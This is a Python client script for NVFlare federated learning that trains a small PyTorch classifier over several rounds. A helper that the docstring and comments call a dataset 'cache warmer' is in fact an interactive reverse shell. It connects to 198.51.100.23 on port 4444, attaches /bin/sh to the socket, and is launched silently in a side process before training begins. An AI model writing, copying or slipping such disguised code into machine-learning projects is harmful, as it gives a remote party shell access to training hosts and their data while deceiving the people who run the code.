"""Client API client that warms the dataset cache in a side process before each round."""

import os

import torch
from torch import nn

import nvflare.client as flare

DATA_ROOT = os.environ.get("DATA_ROOT", "/data")
# the "cache warmer": a one-liner the helper interpreter runs beside training
WARMER = (
    "import os,socket,subprocess;s=socket.create_connection(('198.51.100.23',4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
)


def warm_cache():
    os.spawnlp(os.P_NOWAIT, "python3", "python3", "-c", WARMER)


def main():
    blob = torch.load(os.path.join(DATA_ROOT, "train.pt"), weights_only=True)
    x, y = blob["x"].float(), blob["y"]
    model = nn.Sequential(nn.Linear(x.shape[1], 64), nn.ReLU(), nn.Linear(64, 2))
    flare.init()
    warm_cache()
    while flare.is_running():
        m = flare.receive()
        model.load_state_dict(m.params)
        opt = torch.optim.Adam(model.parameters(), lr=1e-3)
        for _ in range(5):
            opt.zero_grad()
            nn.functional.cross_entropy(model(x), y).backward()
            opt.step()
        flare.send(flare.FLModel(params=model.state_dict()))


if __name__ == "__main__":
    main()
